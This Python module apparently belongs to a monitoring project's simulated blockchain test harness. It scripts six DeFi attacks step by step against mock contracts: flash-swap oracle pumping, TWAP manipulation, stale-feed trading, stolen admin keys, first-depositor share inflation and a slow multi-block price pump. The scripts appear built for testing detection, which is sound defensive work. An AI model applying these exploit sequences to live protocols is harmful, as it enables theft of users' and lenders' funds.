"""Attacks on the Harbor world. Each function funds what the attacker brings (mined at once, before the attack)
and returns a `Play` of the attack's steps; `play(world, p)` runs it, or a drill paces it block by block.
`Outcome.taken` is the attacker's net gain in hUSD, `Outcome.drained` what each victim lost.
"""

from __future__ import annotations

import math
from collections.abc import Iterator
from typing import Any

from watchdog.devnet.world2.benign import time_passes
from watchdog.devnet.world2.chain import HarborWorld, create_address
from watchdog.devnet.world2.deploy import E18, MARKETS, TWAP_MIN_GAP, TWAP_WINDOW, USD
from watchdog.devnet.world2.market import feed_answer_for, spot, swap, usd_to_move
from watchdog.devnet.world2.steps import Play, Step, Tx, Wait

ETH_PERP = MARKETS["ETH-PERP"]


def _give_usd(world: HarborWorld, who: str, amount: int) -> None:
    """The attacker's own capital (bought elsewhere long before): a transfer from the issuer's treasury."""
    usd = world.contract("hUSD")
    world.send(usd.functions.mint(world.accounts.deployer.address, amount), "deployer")
    world.send(usd.functions.transfer(world.accounts[who].address, amount), "deployer")


def _approve(world: HarborWorld, who: str, token: str, spender: str) -> None:
    world.send(world.contract(token).functions.approve(world.addresses[spender], 2**256 - 1), who)


def _deploy_step(play: Play, label: str, artifact: str, *args: Any) -> tuple[Tx, Any]:
    """The attacker deploys `artifact`; its future address counts as the attacker's holdings."""
    world = play.world
    address = create_address(world.accounts.attacker.address, world.next_nonce("attacker"))
    play.holdings.append(address)
    return Tx(label, "attacker", world.constructor(artifact, *args), "prepare"), world.at(address, artifact)


# --- 1. one transaction: flash swap, pump the spot pool, borrow against the pumped collateral ---

def spot_pump_attack(world: HarborWorld, *, flash_usd: int = 3_000_000 * USD) -> Play:
    """Flash-swap `flash_usd` from ForkSwap's WETH pool, buy WETH with it on the Uniswap pool that CreditPool
    prices WETH on, pledge it, borrow all the pumped value allows, repay the flash swap; the loan stays unpaid.
    Steps: deploy the contract (prepare), then one transaction (payoff)."""
    addresses = world.addresses
    found: dict[str, Any] = {}

    def steps(play: Play) -> Iterator[Step]:
        deploy, contract = _deploy_step(play, "deploy the pump-and-borrow contract", "SpotPumpBorrower",
                                        addresses["CreditPool"], addresses["UniswapWethUsd"],
                                        addresses["ForkSwapWethUsd"], addresses["WETH"])
        found["contract"] = contract.address
        yield deploy
        yield Tx("flash swap, pump the priced pool, pledge, borrow everything", "attacker",
                 contract.functions.strike(flash_usd), "payoff")

    def details() -> dict[str, Any]:
        return {"contract": found.get("contract"), "flash_usd": flash_usd,
                "unpaid_debt": _debt(world, found.get("contract")), "spot_after": spot(world, "UniswapWethUsd")}

    return Play(world, "spot-pump", steps, attacker="attacker", victims=("CreditPool",), details=details)


def _debt(world: HarborWorld, account: str | None) -> int:
    return world.contract("CreditPool").functions.debtOf(account).call() if account else 0


# --- 2. TWAP pushed and held over several blocks, then options exercised at the manipulated settlement ---

def twap_push_attack(world: HarborWorld, *, options: int = 200_000 * E18, push_ratio: float = 2.0,
                     hold_blocks: int = 5, expires_in: int = 2 * 3600) -> Play:
    """A market maker sells calls on HBR (strike +10%, capped at +100%, expiring in `expires_in` seconds). The
    attacker buys `options` of them, waits for the last TWAP window before expiry, buys HBR to lift the pool by
    `push_ratio`, holds it there for `hold_blocks` blocks (the keeper keeps recording observations), settles and
    exercises at the lifted average, and sells the HBR back.
    Steps: buy calls (prepare), wait; push, checkpoint (exploit); hold (waits + keeper observations); settle
    (exploit); exercise (payoff); sell back (exploit)."""
    house, twap = world.contract("OptionsHouse"), world.contract("HbrTwap")
    price = spot(world, "UniswapHbrUsd")
    expiry = world.now() + expires_in
    series = house.functions.seriesCount().call()
    strike, cap, premium = price * 11 // 10, price * 2, price // 40
    world.send(house.functions.openSeries(True, strike, cap, expiry, premium), "maker")
    world.send(house.functions.write(series, options * 5 // 4), "maker")
    push = usd_to_move(world, "UniswapHbrUsd", push_ratio)
    _give_usd(world, "attacker", push + options * premium // E18 + 1_000 * USD)
    for token, spender in (("hUSD", "OptionsHouse"), ("hUSD", "UniswapRouter"), ("HBR", "UniswapRouter")):
        _approve(world, "attacker", token, spender)
    attacker = world.accounts.attacker.address
    found: dict[str, Any] = {"series": series, "strike": strike, "cap": cap, "honest_price": price}

    def steps(play: Play) -> Iterator[Step]:
        yield Tx("buy the calls", "attacker", house.functions.buy(series, options, 2**255), "prepare")
        yield from time_passes(world, "until the last TWAP window before expiry",  # the feeds' keeper goes on
                               max(0, expiry - TWAP_WINDOW - 30 - world.now()), "environment")
        yield Tx("buy HBR to lift the pool", "attacker", swap(world, "UniswapHbrUsd", "hUSD", push, attacker), "exploit")
        yield Tx("record a TWAP observation at the lifted price", "attacker", twap.functions.update(), "exploit")
        checkpoint = world.now()
        hold = max(TWAP_WINDOW, expiry - checkpoint) + 5
        for i in range(hold_blocks):
            yield Wait(f"hold the price ({i + 1}/{hold_blocks})", math.ceil(hold / hold_blocks))
            if hold // hold_blocks >= TWAP_MIN_GAP:
                yield Tx("the keeper records an observation", "keeper", twap.functions.update(), "environment")
        found["settlement_twap"] = twap.functions.price().call()
        yield Tx("settle the series on the lifted TWAP", "attacker", house.functions.settle(series), "exploit")
        yield Tx("exercise the calls", "attacker", house.functions.exercise(series), "payoff")
        held = world.contract("HBR").functions.balanceOf(attacker).call()
        yield Tx("sell the HBR back", "attacker", swap(world, "UniswapHbrUsd", "HBR", held, attacker), "exploit")

    def details() -> dict[str, Any]:
        settled = house.functions.series(series).call()
        return found | {"settled": settled[9], "settlement_price": settled[10], "payoff_per_option": settled[11]}

    return Play(world, "twap-push-hold", steps, attacker="attacker", victims=("OptionsHouse",), details=details)


# --- 3. the feed stops, the market moves, the attacker trades against the stale mark ---

def stale_feed_attack(world: HarborWorld, *, rally_pct: int = 20, stale_for: int = 3 * 3600,
                      margin: int = 100_000 * USD) -> Play:
    """The ETH/USD keeper goes quiet for `stale_for` seconds while ETH rallies `rally_pct`% on both pools (a
    whale buys). The attacker opens a 10x long on ETH-PERP at the stale mark; the keeper comes back and publishes
    the real price; the attacker closes.
    Steps: wait, rally (environment), open (exploit), keeper update (environment), close (payoff)."""
    perps = world.contract("PerpExchange")
    _give_usd(world, "attacker", margin)
    _approve(world, "attacker", "hUSD", "PerpExchange")
    whale = world.accounts.whale.address
    found: dict[str, Any] = {}

    def steps(play: Play) -> Iterator[Step]:
        yield Wait("the keeper stops publishing", stale_for)
        for pair in ("UniswapWethUsd", "ForkSwapWethUsd"):
            cost = usd_to_move(world, pair, 1 + rally_pct / 100)
            yield Tx(f"ETH rallies on {pair}", "whale", swap(world, pair, "hUSD", cost, whale), "environment")
        mark = perps.functions.markPrice(ETH_PERP).call()
        size = margin * 10 * 99 // 100 * E18 // mark  # 10x, leaving room for the fee
        found.update(stale_mark=mark, market_price=spot(world, "UniswapWethUsd"), size=size)
        yield Tx("open a 10x long at the stale mark", "attacker", perps.functions.openPosition(ETH_PERP, size, margin), "exploit")
        answer = feed_answer_for(spot(world, "UniswapWethUsd"))
        yield Tx("the keeper publishes again", "keeper", world.contract("EthUsdFeed").functions.transmit(answer), "environment")
        yield Tx("close the long", "attacker", perps.functions.closePosition(ETH_PERP), "payoff")

    return Play(world, "stale-feed", steps, attacker="attacker", victims=("PerpExchange",), details=lambda: found)


# --- 4. a stolen admin key changes a price source (or withdraws), then the attacker drains ---

def key_compromise_attack(world: HarborWorld, *, target: str = "CreditPool") -> Play:
    """`target="CreditPool"`: with the credit pool's stolen admin key the attacker points WETH's price source at
    a contract of its own reporting 1e9 hUSD per WETH, pledges 1 WETH and borrows all the cash.
    Steps: deploy the fake pair (prepare), reconfigure with the stolen key, pledge (exploit), borrow (payoff).
    `target="SavingsVault"`: the vault's stolen owner key sweeps every hUSD the vault holds to the attacker
    (the credit pool's loans against savings shares are left under water). Steps: the sweep (payoff)."""
    if target == "SavingsVault":
        return _sweep_vault(world)
    if target != "CreditPool":
        raise ValueError(f"key_compromise_attack: target must be CreditPool or SavingsVault, not {target!r}")
    credit, weth = world.contract("CreditPool"), world.contract("WETH")
    world.send(weth.functions.deposit(), "attacker", value=E18)
    _approve(world, "attacker", "WETH", "CreditPool")
    pair_spot = 1  # CreditPool.Pricing.PairSpot

    def steps(play: Play) -> Iterator[Step]:
        deploy, fake = _deploy_step(play, "deploy a pair that reports any reserves", "FakeReservesPair",
                                    world.addresses["WETH"], world.addresses["hUSD"], E18, 10**9 * USD)
        yield deploy
        yield Tx("stolen admin key: price WETH on the fake pair", "credit_admin",
                 credit.functions.configureCollateral(weth.address, pair_spot, fake.address, 7_500, 8_500), "exploit")
        yield Tx("pledge 1 WETH", "attacker", credit.functions.depositCollateral(weth.address, E18), "exploit")
        yield Tx("borrow all the cash", "attacker", credit.functions.borrow(credit.functions.cash().call()), "payoff")

    return Play(world, "key-compromise-credit", steps, attacker="attacker", victims=("CreditPool",))


def _sweep_vault(world: HarborWorld) -> Play:
    vault, usd = world.contract("SavingsVault"), world.contract("hUSD")

    def steps(play: Play) -> Iterator[Step]:
        held = usd.functions.balanceOf(vault.address).call()
        yield Tx("stolen owner key: sweep the vault's hUSD", "savings_admin",
                 vault.functions.sweep(usd.address, world.accounts.attacker.address, held), "payoff")

    def details() -> dict[str, Any]:
        return {"share_price_after": vault.functions.convertToAssets(USD).call()}

    return Play(world, "key-compromise-vault", steps, attacker="attacker", victims=("SavingsVault",), details=details)


# --- 5. first depositor of the new term vault inflates the share price and takes the next deposit ---

def donation_inflation_attack(world: HarborWorld, *, victim_deposit: int = 100_000 * USD) -> Play:
    """The term vault is new and empty. The attacker deposits one unit and donates `victim_deposit` hUSD; the
    newcomer deposits `victim_deposit` and gets no shares; the attacker redeems its one share for everything.
    Steps: deploy, fund the contract (prepare), deposit 1 + donate (exploit), the newcomer's deposit
    (environment), redeem (payoff)."""
    vault, usd = world.contract("TermVault"), world.contract("hUSD")
    if vault.functions.totalSupply().call() != 0:
        raise ValueError("donation_inflation_attack needs the empty TermVault: run it on a fresh Harbor world")
    _give_usd(world, "attacker", victim_deposit + 1)

    def steps(play: Play) -> Iterator[Step]:
        deploy, contract = _deploy_step(play, "deploy the front-runner", "DonationFrontrunner", vault.address)
        yield deploy
        yield Tx("fund the front-runner", "attacker", usd.functions.transfer(contract.address, victim_deposit + 1), "prepare")
        yield Tx("deposit one unit, donate the rest", "attacker", contract.functions.prime(), "exploit")
        yield Tx("the newcomer deposits", "newcomer",
                 vault.functions.deposit(victim_deposit, world.accounts.newcomer.address), "environment")
        yield Tx("redeem the only share", "attacker", contract.functions.cashOut(), "payoff")

    def details() -> dict[str, Any]:
        return {"newcomer_shares": vault.functions.balanceOf(world.accounts.newcomer.address).call()}

    return Play(world, "donation-inflation", steps, attacker="attacker", victims=("newcomer",), details=details)


# --- 6. the spot pump in small slices, one block apart ---

def slow_drain_attack(world: HarborWorld, *, slices: int = 40, slice_usd: int = 75_000 * USD,
                      capital: int = 300_000 * USD) -> Play:
    """The spot-pump borrow without a flash loan, in `slices` small steps one block apart: each buys WETH for
    `slice_usd` on the priced pool (a few percent of its depth), pledges it and borrows what the slightly higher
    price allows. Early slices cost more than they borrow; later ones borrow more as every WETH pledged so far is
    worth more. Steps: deploy and fund (prepare), the slices (payoff), collect the proceeds (exploit)."""
    usd = world.contract("hUSD")
    _give_usd(world, "attacker", capital)
    found: dict[str, Any] = {"slices": []}

    def steps(play: Play) -> Iterator[Step]:
        deploy, contract = _deploy_step(play, "deploy the slicing contract", "SpotPumpBorrower",
                                        world.addresses["CreditPool"], world.addresses["UniswapWethUsd"],
                                        world.addresses["ForkSwapWethUsd"], world.addresses["WETH"])
        found["contract"] = contract.address
        yield deploy
        yield Tx("fund the slicing contract", "attacker", usd.functions.transfer(contract.address, capital), "prepare")
        for i in range(slices):
            spend = min(slice_usd, usd.functions.balanceOf(contract.address).call())
            found["slices"].append(spend)
            yield Tx(f"slice {i + 1}/{slices}: buy, pledge, borrow", "attacker", contract.functions.slice(spend), "payoff")
        yield Tx("collect the proceeds", "attacker", contract.functions.withdraw(), "exploit")

    def details() -> dict[str, Any]:
        return found | {"unpaid_debt": _debt(world, found.get("contract")), "spot_after": spot(world, "UniswapWethUsd")}

    return Play(world, "slow-drain", steps, attacker="attacker", victims=("CreditPool",), details=details)
